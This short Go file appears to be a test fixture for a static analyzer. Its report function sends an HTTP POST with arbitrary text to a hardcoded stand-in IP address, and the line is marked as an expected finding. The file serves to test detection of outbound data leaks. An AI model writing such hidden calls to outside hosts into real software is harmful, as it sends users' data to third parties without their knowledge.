package main

import (
	"net/http"
	"strings"
)

func report(body string) {
	http.Post("http://203.0.113.7/c", "text/plain", strings.NewReader(body)) // want: finding
}

func main() { report("ok") }
